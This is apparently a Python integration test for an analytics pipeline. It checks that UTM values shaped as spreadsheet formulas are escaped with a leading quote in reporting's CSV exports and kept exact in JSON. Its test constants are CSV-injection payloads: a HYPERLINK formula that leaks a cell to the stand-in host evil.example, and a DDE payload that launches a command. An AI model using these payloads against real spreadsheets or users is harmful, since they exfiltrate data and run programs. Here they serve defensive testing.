"""CSV formula injection (issue 22, item 9): UTM values anyone with the public write key
chooses travel ingest -> Kafka -> scoring and reporting, and come out of reporting's CSV
answers behind a single quote, so a spreadsheet shows them as text; the JSON answers keep
them exact."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx

from tests.e2e.test_ingest_to_scoring import keen_buyer_batch
from tests.integration.hostile.conftest import Tenants
from tests.integration.support import wait_for

SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CAMPAIGN = "@SUM(1+1)*cmd|' /C calc'!A0"


def _period() -> dict[str, str]:
    today = datetime.now(UTC).date()
    return {"start": str(today - timedelta(days=1)), "end": str(today + timedelta(days=1))}


def _hostile_batch() -> dict[str, Any]:
    marker = uuid.uuid4().hex[:8]
    batch = keen_buyer_batch(f"anon-{marker}", f"user-{marker}", f"{marker}@csv.example")
    # On every message: they share one instant, so any of them may count as the first touch.
    for message in batch["batch"]:
        if message["type"] == "identify":
            message["context"] = {"campaign": {"source": SOURCE, "name": CAMPAIGN}}
        else:
            message.setdefault("properties", {})
            message["properties"] |= {"utm_source": SOURCE, "utm_campaign": CAMPAIGN}
    return batch


def _cells(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text)))


async def test_utm_values_that_are_formulas_are_text_in_csv_and_exact_in_json(
    tenants: Tenants,
) -> None:
    stack = tenants.stack
    key = stack.new_workspace()
    ingest = stack.client("ingest", auth=(key.write_key, ""))
    reporting = stack.client("reporting", headers=key.auth)
    period = _period()
    async with ingest, reporting:
        sent = await ingest.post("/v1/batch", json=_hostile_batch())
        assert sent.status_code == 200, sent.text

        async def counted() -> bool:
            answer = await reporting.get("/v1/revenue", params=period)
            rows = answer.json()["rows"] if answer.status_code == 200 else []
            return any(r["dimension"] == "source" and r["value"] == SOURCE for r in rows)

        await wait_for(
            counted, within=60, every=0.25, what="the hostile source in reporting's revenue"
        )
        as_json = (await reporting.get("/v1/revenue", params=period)).json()["rows"]
        as_csv = _cells(await reporting.get("/v1/revenue", params={**period, "format": "csv"}))
        funnel = _cells(
            await reporting.get(
                "/v1/funnel",
                params=period | {"breakdown": "source"},
                headers={"Accept": "text/csv"},
            )
        )

    assert {(r["dimension"], r["value"]) for r in as_json} >= {
        ("source", SOURCE),
        ("campaign", CAMPAIGN),
    }
    values = {(r["dimension"], r["value"]) for r in as_csv}
    assert ("source", "'" + SOURCE) in values
    assert ("campaign", "'" + CAMPAIGN) in values
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for _, v in values)
    # Numbers stay numbers: the new lead is counted as 1 in the CSV as in the JSON.
    source_row = next(r for r in as_csv if r["value"] == "'" + SOURCE)
    assert float(source_row["leads"]) == 1
    groups = {r["group"] for r in funnel}
    assert "'" + SOURCE in groups
    assert SOURCE not in groups
